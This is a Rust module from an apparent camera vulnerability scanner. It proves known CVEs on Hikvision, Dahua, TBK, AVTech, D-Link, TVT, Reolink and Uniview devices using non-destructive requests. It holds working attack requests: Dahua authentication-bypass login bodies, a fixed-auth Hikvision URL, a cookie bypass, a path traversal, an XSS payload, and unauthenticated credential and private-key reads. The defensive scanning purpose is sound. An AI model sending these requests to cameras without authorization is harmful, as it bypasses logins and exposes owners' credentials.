//! Known vulnerabilities, proven with non-destructive requests (each gated on identification so
//! it is only sent to the devices it concerns), and decided from firmware versions
//! (`data/cves/firmware.toml`).
//!
//! Never sent: the CVE-2021-36260 command injection, `/System/configurationFile`,
//! `/current_config/passwd`, any PUT. Replies that may hold secrets are read only as far as the
//! proof needs (`Http::send_limited`) and their values are never kept.

use super::budget::AuthOutcome;
use super::{CheckEnv, Host};
use crate::proto::http::{Endpoint, Request};
use camwarden_core::model::{Finding, Identity, Severity};
use regex::Regex;

fn vendor_is(host: &Host, v: &str) -> bool {
    host.vendor() == Some(v)
}

/// The Dahua JSON-RPC login shapes of CVE-2021-33044 (NetKeyboard) and CVE-2021-33045 (loopback).
fn dahua_bypass_body(cve: &str) -> &'static str {
    if cve == "CVE-2021-33044" {
        r#"{"method":"global.login","params":{"userName":"admin","password":"Not Used","clientType":"NetKeyboard","loginType":"Direct","authorityType":"Default","passwordType":"Default"},"id":1,"session":0}"#
    } else {
        r#"{"method":"global.login","params":{"userName":"admin","password":"admin","clientType":"Local","loginType":"Loopback","ipAddr":"127.0.0.1","authorityType":"Default","passwordType":"Plain"},"id":1,"session":0}"#
    }
}

/// Dahua error code in a JSON-RPC reply, if any.
pub fn dahua_error(v: &serde_json::Value) -> Option<i64> {
    v["error"]["code"].as_i64()
}

/// Codes meaning the account or address is locked (268632081) or blacklisted (268632073).
pub fn dahua_locked(code: i64) -> bool {
    code == 268632081 || code == 268632073
}

/// Log out of a Dahua JSON-RPC session.
pub async fn dahua_logout(env: &CheckEnv, ep: Endpoint, session: &serde_json::Value) {
    let body = serde_json::json!({"method":"global.logout","params":null,"session":session,"id":2})
        .to_string();
    let _ = env
        .http
        .send(ep, &Request::post("/RPC2", "application/json", body))
        .await;
}

async fn dahua_bypass(host: &Host, env: &CheckEnv, ep: Endpoint, cve: &str) -> Option<Finding> {
    let id = cve.to_ascii_lowercase();
    env.mark_ran(&id);
    // Login-shaped: the device may count it as a failed login, so it draws from the budget.
    let attempt = env.budget.acquire().await.ok()?;
    let reply = env
        .http
        .send(
            ep,
            &Request::post("/RPC2_Login", "application/json", dahua_bypass_body(cve)),
        )
        .await;
    let reply = match reply {
        Ok(r) => r,
        Err(e) => {
            attempt.finish(&AuthOutcome::Error(e.msg));
            return None;
        }
    };
    let v: serde_json::Value = serde_json::from_slice(&reply.body).unwrap_or_default();
    if v["result"] == serde_json::Value::Bool(true) && !v["session"].is_null() {
        attempt.finish(&AuthOutcome::Valid);
        dahua_logout(env, ep, &v["session"]).await;
        let shape = if cve == "CVE-2021-33044" {
            "NetKeyboard client type"
        } else {
            "Loopback login type"
        };
        return Some(env.finding(
            host,
            &id,
            Some(ep.addr.port()),
            format!("POST /RPC2_Login with the {shape} was granted a session without the password (result true); session logged out at once"),
        ));
    }
    match dahua_error(&v) {
        Some(code) if dahua_locked(code) => attempt.finish(&AuthOutcome::LockedOut),
        // Only a JSON-RPC answer means a login was judged; a web page served for any path
        // (seen on Dahua-branded OEM firmware without RPC2) costs the device nothing.
        _ if v.get("result").is_none() && v.get("error").is_none() => {
            attempt.finish(&AuthOutcome::SchemeUnsupported)
        }
        _ => attempt.finish(&AuthOutcome::Invalid),
    }
    None
}

async fn simple_get(
    host: &Host,
    env: &CheckEnv,
    ep: Endpoint,
    check: &str,
    req: Request,
    max: usize,
    prove: impl Fn(&crate::proto::msg::Reply) -> Option<String>,
) -> Option<Finding> {
    env.mark_ran(check);
    let r = env.http.send_limited(ep, &req, max).await.ok()?;
    let why = prove(&r)?;
    Some(env.finding(
        host,
        check,
        Some(ep.addr.port()),
        format!("{} {} → {}", req.method, req.path, why),
    ))
}

pub async fn run(host: &Host, env: &CheckEnv) -> Vec<Finding> {
    let mut out = Vec::new();
    let Some(ep) = host
        .http
        .iter()
        .find(|e| !e.tls)
        .or(host.http.first())
        .copied()
    else {
        return out;
    };
    let unknown = host.vendor().is_none() || host.vendor() == Some("other");

    if vendor_is(host, "hikvision") {
        let hit = simple_get(host, env, ep, "cve-2017-7921", Request::get("/system/deviceInfo?auth=YWRtaW46MTEK"), 8192, |r| {
            let xml = r.header("content-type").is_some_and(|c| c.contains("xml"));
            (r.status == 200 && xml && r.text().contains("<firmwareVersion>"))
                .then(|| "200 application/xml with <firmwareVersion>: device information read with the fixed 'auth' parameter, no password".to_string())
        })
        .await;
        if hit.is_some() {
            // The proof reply is the device's own description: use it for the identity.
            if let Ok(r) = env
                .http
                .send_limited(
                    ep,
                    &Request::get("/system/deviceInfo?auth=YWRtaW46MTEK"),
                    8192,
                )
                .await
            {
                env.learn(crate::identify::extract_hikvision(
                    &r.body,
                    Some(ep.addr.port()),
                ));
            }
        }
        out.extend(hit);
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "hikvision-user-xml-disclosure",
                Request::get("/config/user.xml"),
                512,
                |r| {
                    let t = r.text();
                    (r.status == 200 && t.contains("<user") && t.contains("password=")).then(|| {
                        "200 with user entries carrying password attributes (values not kept)"
                            .to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "dahua") {
        for cve in ["CVE-2021-33044", "CVE-2021-33045"] {
            if env.budget.locked() {
                break;
            }
            out.extend(dahua_bypass(host, env, ep, cve).await);
        }
    }
    if vendor_is(host, "tbk") || unknown {
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "cve-2018-9995",
                Request::get("/device.rsp?opt=user&cmd=list").header("Cookie", "uid=admin"),
                512,
                |r| {
                    let t = r.text();
                    (r.status == 200 && t.contains("\"uid\"") && t.contains("\"pwd\"")).then(|| {
                        "200 with a JSON user list holding uid and pwd fields (values not kept)"
                            .to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "avtech") {
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "avtech-account-disclosure",
                Request::get("/cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*"),
                256,
                |r| {
                    let t = r.text();
                    (r.status == 200
                        && t.contains("Account.")
                        && (t.contains("Password") || t.contains("Maxuser")))
                    .then(|| {
                        "200 with Account.* settings including password fields (values not kept)"
                            .to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "dlink") {
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "cve-2020-25078",
                Request::get("/config/getuser?index=0"),
                256,
                |r| {
                    let t = r.text();
                    (r.status == 200 && t.contains("name=") && t.contains("pass=")).then(|| {
                        "200 text with name= and pass= lines (values not kept)".to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "tvt") || unknown {
        let body = r#"<?xml version="1.0" encoding="utf-8" ?><request version="1.0" systemType="NVMS-9000" clientType="WEB"/>"#;
        let hit = simple_get(
            host,
            env,
            ep,
            "cve-2024-7339",
            Request::post("/queryDevInfo", "application/xml", body),
            8192,
            |r| {
                let t = r.text();
                (r.status == 200 && t.contains("softwareVersion")).then(|| {
                    "200 with softwareVersion and network details, no credentials".to_string()
                })
            },
        )
        .await;
        if hit.is_some()
            && let Ok(r) = env
                .http
                .send_limited(
                    ep,
                    &Request::post("/queryDevInfo", "application/xml", body),
                    8192,
                )
                .await
            && let Ok(x) = crate::proto::onvif::parse(&r.body)
        {
            env.learn(crate::identify::facts_from_device_info(
                "tvt",
                x.get("deviceModel").or(x.get("model")),
                x.get("softwareVersion"),
                Some(ep.addr.port()),
            ));
        }
        out.extend(hit);
    }
    if vendor_is(host, "tvt") {
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "cve-2019-20085",
                Request::get("/../../../../../../../../../../../../windows/win.ini"),
                512,
                |r| {
                    let t = r.text();
                    (r.status == 200
                        && (t.contains("[fonts]")
                            || t.contains("[extensions]")
                            || t.contains("[files]")))
                    .then(|| {
                        "200 with the sections of windows/win.ini (a harmless system file)"
                            .to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "reolink") {
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "cve-2021-40149",
                Request::get("/self.key"),
                40,
                |r| {
                    (r.status == 200
                        && r.body.starts_with(b"-----BEGIN")
                        && String::from_utf8_lossy(&r.body).contains("PRIVATE"))
                    .then(|| {
                        "200 starting with a PEM private-key header (only the first 40 bytes read)"
                            .to_string()
                    })
                },
            )
            .await,
        );
    }
    if vendor_is(host, "uniview") {
        let payload = "<sVg/onload=alert.bind()(1)>";
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "cve-2024-3850",
                Request::get("/V1.0%3CsVg/onload=alert.bind%28%29%281%29%3E/Alarm/Exceptions/LinkageActions?="),
                4096,
                |r| r.text().contains(payload).then(|| "the injected tag is reflected unescaped in the reply".to_string()),
            )
            .await,
        );
        out.extend(
            simple_get(
                host,
                env,
                ep,
                "uniview-user-disclosure",
                Request::get("/cgi-bin/main-cgi?json=%7B%22cmd%22:255,%22szUserName%22:%22%22,%22u32UserLoginHandle%22:-1%7D"),
                1024,
                |r| {
                    let t = r.text();
                    (r.status == 200 && t.contains("UserCfg") && t.contains("RvsblePass"))
                        .then(|| "200 with UserCfg entries carrying RvsblePass (values not kept)".to_string())
                },
            )
            .await,
        );
    }
    out
}

#[derive(serde::Deserialize)]
struct RangeFile {
    #[serde(default)]
    range: Vec<Range>,
}

#[derive(serde::Deserialize)]
struct Range {
    cve: String,
    vendor: String,
    #[serde(default)]
    model: Option<String>,
    #[serde(default)]
    build_from: Option<String>,
    #[serde(default)]
    build_to: Option<String>,
    #[serde(default)]
    build_before: Option<String>,
    #[serde(default)]
    version_from: Option<String>,
    #[serde(default)]
    version_to: Option<String>,
    severity: Severity,
    source: String,
}

/// The build date in a firmware string as YYYYMMDD: Hikvision `build 160530`, Dahua
/// `build:2020-06-05`.
pub fn build_date(fw: &str) -> Option<u32> {
    let long = Regex::new(r"(?i)build[: ]*(20\d\d)[-.]?(\d\d)[-.]?(\d\d)").ok()?;
    if let Some(c) = long.captures(fw) {
        return format!("{}{}{}", &c[1], &c[2], &c[3]).parse().ok();
    }
    let short = Regex::new(r"(?i)build[: ]*(\d\d)(\d\d)(\d\d)\b").ok()?;
    let c = short.captures(fw)?;
    format!("20{}{}{}", &c[1], &c[2], &c[3]).parse().ok()
}

/// The numeric components of a version (`V5.4.0 build 160530` → [5, 4, 0]; build part ignored).
pub fn version_numbers(fw: &str) -> Vec<u64> {
    let head = fw
        .split(|c: char| c == ',' || c.is_whitespace())
        .find(|t| t.chars().any(|c| c.is_ascii_digit()))
        .unwrap_or("");
    head.split(|c: char| !c.is_ascii_digit())
        .filter(|t| !t.is_empty())
        .filter_map(|t| t.parse().ok())
        .collect()
}

fn cmp_versions(a: &[u64], b: &[u64]) -> std::cmp::Ordering {
    let n = a.len().max(b.len());
    for i in 0..n {
        let (x, y) = (
            a.get(i).copied().unwrap_or(0),
            b.get(i).copied().unwrap_or(0),
        );
        if x != y {
            return x.cmp(&y);
        }
    }
    std::cmp::Ordering::Equal
}

fn in_range(r: &Range, id: &Identity) -> bool {
    if id.vendor.as_deref() != Some(r.vendor.as_str()) {
        return false;
    }
    let Some(fw) = id.firmware.as_deref() else {
        return false;
    };
    if let Some(m) = &r.model {
        let ok = Regex::new(m)
            .ok()
            .zip(id.model.as_deref())
            .is_some_and(|(re, model)| re.is_match(model));
        if !ok {
            return false;
        }
    }
    let date = build_date(fw);
    let num = |s: &Option<String>| s.as_deref().and_then(|x| x.parse::<u32>().ok());
    if r.build_from.is_some() || r.build_to.is_some() || r.build_before.is_some() {
        let Some(d) = date else { return false };
        if num(&r.build_from).is_some_and(|f| d < f)
            || num(&r.build_to).is_some_and(|t| d > t)
            || num(&r.build_before).is_some_and(|b| d >= b)
        {
            return false;
        }
    }
    let v = version_numbers(fw);
    if r.version_from.is_some() || r.version_to.is_some() {
        if v.is_empty() {
            return false;
        }
        if r.version_from
            .as_deref()
            .is_some_and(|f| cmp_versions(&v, &version_numbers(f)).is_lt())
            || r.version_to
                .as_deref()
                .is_some_and(|t| cmp_versions(&v, &version_numbers(t)).is_gt())
        {
            return false;
        }
    }
    true
}

/// Version-based findings for the final identity; CVEs already proven by a request are skipped.
pub fn firmware_findings(host: &Host, env: &CheckEnv, proven: &[Finding]) -> Vec<Finding> {
    env.mark_ran("firmware-known-cve");
    let Some(text) = env.kb.file("cves/firmware.toml") else {
        return Vec::new();
    };
    let Ok(f) = toml::from_str::<RangeFile>(text) else {
        tracing::warn!("data/cves/firmware.toml is not valid; version-based checks skipped");
        return Vec::new();
    };
    let mut out = Vec::new();
    for r in f.range.iter().filter(|r| in_range(r, &host.identity)) {
        if proven.iter().any(|p| p.cve.contains(&r.cve)) {
            continue;
        }
        let mut fnd = env.finding(
            host,
            "firmware-known-cve",
            None,
            format!(
                "firmware {:?} of {} {} is inside the affected range of {} ({}); not exploited",
                host.identity.firmware.as_deref().unwrap_or(""),
                r.vendor,
                host.identity.model.as_deref().unwrap_or("?"),
                r.cve,
                r.source
            ),
        );
        fnd.cve = vec![r.cve.clone()];
        fnd.severity = r.severity;
        fnd.title = format!("{} ({})", fnd.title, r.cve);
        out.push(fnd);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_dates_of_both_vendor_styles() {
        assert_eq!(build_date("V5.4.0 build 160530"), Some(20160530));
        assert_eq!(
            build_date("2.800.0000016.0.R,build:2020-06-05"),
            Some(20200605)
        );
        assert_eq!(build_date("V5.7.3"), None);
    }

    #[test]
    fn version_numbers_and_comparison() {
        assert_eq!(version_numbers("V5.4.0 build 160530"), vec![5, 4, 0]);
        assert_eq!(
            version_numbers("1.1.15 Build 211222 Rel.39866n"),
            vec![1, 1, 15]
        );
        assert!(cmp_versions(&[1, 1, 15], &[1, 1, 16]).is_lt());
        assert!(cmp_versions(&[1, 2], &[1, 1, 99]).is_gt());
    }

    fn id(vendor: &str, fw: &str, model: &str) -> Identity {
        Identity {
            camera: true,
            vendor: Some(vendor.into()),
            firmware: Some(fw.into()),
            model: Some(model.into()),
            ..Identity::default()
        }
    }

    #[test]
    fn ranges_from_data() {
        let kb = crate::data::Knowledge::builtin().unwrap();
        let f: RangeFile = toml::from_str(kb.file("cves/firmware.toml").unwrap()).unwrap();
        let hits = |i: &Identity| {
            f.range
                .iter()
                .filter(|r| in_range(r, i))
                .map(|r| r.cve.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            hits(&id("hikvision", "V5.4.0 build 160530", "DS-2CD2032-I")),
            vec!["CVE-2017-7921", "CVE-2021-36260"]
        );
        assert!(hits(&id("hikvision", "V5.7.12 build 230112", "DS-2CD2386G2-IU")).is_empty());
        assert_eq!(
            hits(&id(
                "dahua",
                "2.800.0000016.0.R,build:2020-06-05",
                "IPC-HDW1230S"
            ))
            .len(),
            2
        );
        assert!(
            hits(&id(
                "dahua",
                "2.820.0000000.5.R,build:2022-03-01",
                "IPC-HDW2431T"
            ))
            .is_empty()
        );
        assert_eq!(
            hits(&id("tp-link", "1.1.14 Build 210716", "Tapo C200")),
            vec!["CVE-2021-4045"]
        );
        assert!(hits(&id("tp-link", "1.1.16 Build 211209", "Tapo C200")).is_empty());
    }

    #[test]
    fn dahua_lock_codes() {
        let v: serde_json::Value = serde_json::from_str(r#"{"error":{"code":268632081,"message":"User locked"},"id":1,"result":false,"session":0}"#).unwrap();
        assert!(dahua_locked(dahua_error(&v).unwrap()));
    }
}
